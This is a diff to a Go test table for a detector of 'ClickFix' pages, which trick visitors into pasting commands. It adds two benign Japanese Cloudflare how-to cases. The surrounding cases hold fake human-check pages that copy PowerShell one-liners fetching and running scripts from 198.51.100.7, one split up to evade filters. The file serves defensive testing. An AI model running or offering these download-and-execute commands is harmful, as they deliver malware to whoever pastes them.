@@ -39,6 +39,13 @@ var clickfixCases = []struct {
 		`<p>人間であることを確認してください</p><textarea id="c" style="display:none">powershell -nop -c "iex (New-Object Net.WebClient).DownloadString('http://198.51.100.7/p')"</textarea>
 <button onclick="document.getElementById('c').select();document.execCommand('copy')">確認する</button>`,
 		true, []string{"powershell -nop"}},
+	// Review 19: articles about Cloudflare, no human check.
+	{"a cloudflared install note's copy button", "https://tech-blog.example.jp/cloudflared", "Cloudflare Tunnel を入れる",
+		`<h1>Cloudflare Tunnel を入れる</h1><p>リポジトリを追加します。</p><button data-clipboard-text="curl -fsSL https://pkg.cloudflare.com/cloudflare-main.gpg | sudo tee /usr/share/keyrings/cloudflare-main.gpg">コピー</button>`,
+		false, nil},
+	{"a DNS guide with Win+R and a paste", "https://tech-blog.example.jp/dns", "Cloudflare の 1.1.1.1 に DNS を変えたあとにやること",
+		`<h1>Cloudflare の 1.1.1.1 に変えたら</h1><ol><li>Win+R を押して cmd と入力します。</li><li>ipconfig /flushdns を貼り付けて Enter を押します。</li></ol>`,
+		false, nil},
 	{"command split to pass filters", "https://cf-verify.example.top/", "Cloudflare",
 		`<p>Checking if the site connection is secure</p><script>var x='pow'+'ershell -c iwr http://198.51.100.7/s | iex';navigator['clip'+'board'].writeText(x)</script>`,
 		true, []string{"powershell -c iwr"}},
